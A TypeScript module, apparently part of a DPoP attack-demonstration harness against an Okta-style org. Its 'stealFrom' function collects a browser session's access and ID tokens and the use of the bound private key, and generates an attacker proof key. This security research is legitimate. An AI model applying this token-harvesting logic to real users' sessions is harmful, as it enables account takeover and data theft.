import { decodeJwt } from 'jose';
import { algorithmsOf } from '../../../../../dpop/algorithms';
import type { Loot } from '../../../../../dpop/attacks/loot';
import { generateProofKey } from '../../../../../dpop/proof-key';
import type { Session } from '../../../auth';
import { keyPairs } from '../../tokens/key-pairs';

/** What a thief takes of a session, without what only the server of the app can get. */
export type StolenLoot = Omit<Loot, 'bearerToken'>;

/** The thumbprint of the key that an access token is bound to. */
export function boundTo(accessToken: string): string | undefined {
  try {
    return decodeJwt<{ cnf?: { jkt?: string } }>(accessToken).cnf?.jkt;
  } catch {
    return undefined; // It is opaque.
  }
}

/**
 * Takes the tokens of this session, and the use of its key, which stays in the browser.
 *
 * @param org the address of the local org
 * @throws Error that says what is missing
 */
export async function stealFrom(session: Session, org: string): Promise<StolenLoot> {
  const { accessToken, idToken } = session.tokens();
  if (!accessToken) throw new Error('Nobody is signed in.');
  const jkt = boundTo(accessToken.accessToken);
  const pair = (await keyPairs()).find(({ thumbprint }) => thumbprint === jkt);
  if (!pair) throw new Error('The key that the token is bound to is not in this browser.');
  const { privateKey, publicKey, jwk } = pair;
  const [alg = 'RS256'] = algorithmsOf(jwk);
  return {
    resource: new URL('/api/v1/users?limit=1', org),
    post: new URL('/oauth2/v1/userinfo', org),
    accessToken: accessToken.accessToken,
    key: { privateKey, publicKey, jwk, alg },
    thiefKey: await generateProofKey('ES256', { extractable: true }),
    ...(idToken && { idToken: idToken.idToken }),
  };
}
